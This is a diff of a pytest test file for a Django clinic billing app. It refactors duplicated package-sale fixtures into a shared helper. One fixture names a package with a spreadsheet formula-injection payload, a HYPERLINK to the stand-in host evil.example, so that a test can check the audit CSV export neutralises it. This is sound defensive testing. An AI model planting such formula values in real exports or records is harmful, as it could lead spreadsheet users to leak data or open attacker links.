@@ -13,14 +13,21 @@ from django.core.management import CommandError, call_command
 from tally.clinic.actions import sales, visits
 
 
-@pytest.fixture
-def troubled(desk, patient, ten_pack, acu60, clinic):
-    sold, _ = sales.do_sell_package(acting_user=desk, patient=patient, package=ten_pack, use_first_session=False,
-                                    sold_at=dt.datetime(2026, 3, 1, 15, tzinfo=dt.UTC), payment=("800.00", "card"))
-    appointment = visits.do_book(acting_user=desk, patient=patient, service=acu60,
+def sold_then_visit_without_charges(desk, patient, package, service):
+    """`package` sold and paid on 1 March, then a visit on 5 March checked in with No Charges:
+    a NO_CHARGES warning on the package."""
+    sold, _ = sales.do_sell_package(acting_user=desk, patient=patient, package=package, use_first_session=False,
+                                    sold_at=dt.datetime(2026, 3, 1, 15, tzinfo=dt.UTC),
+                                    payment=(str(package.price), "card"))
+    appointment = visits.do_book(acting_user=desk, patient=patient, service=service,
                                  starts_at=dt.datetime(2026, 3, 5, 15, tzinfo=dt.UTC))
     visits.do_check_in(acting_user=desk, appointment=appointment, no_charges=True)
     return sold
+
+
+@pytest.fixture
+def troubled(desk, patient, ten_pack, acu60, clinic):
+    return sold_then_visit_without_charges(desk, patient, ten_pack, acu60)
 
 
 def run(*args) -> str:
@@ -85,12 +92,7 @@ def formula_named_package(owner, desk, patient, acu60, clinic):
 
     package = catalog.do_create_package(acting_user=owner, name='=HYPERLINK("http://evil.example/?x","Open")',
                                         price="100.00", sessions=5, service_ids=[acu60.pk])
-    sold, _ = sales.do_sell_package(acting_user=desk, patient=patient, package=package, use_first_session=False,
-                                    sold_at=dt.datetime(2026, 3, 1, 15, tzinfo=dt.UTC), payment=("100.00", "card"))
-    appointment = visits.do_book(acting_user=desk, patient=patient, service=acu60,
-                                 starts_at=dt.datetime(2026, 3, 5, 15, tzinfo=dt.UTC))
-    visits.do_check_in(acting_user=desk, appointment=appointment, no_charges=True)
-    return sold
+    return sold_then_visit_without_charges(desk, patient, package, acu60)
 
 
 def test_audit_csv_neutralises_text_a_spreadsheet_would_run_and_keeps_numbers(formula_named_package, patient):
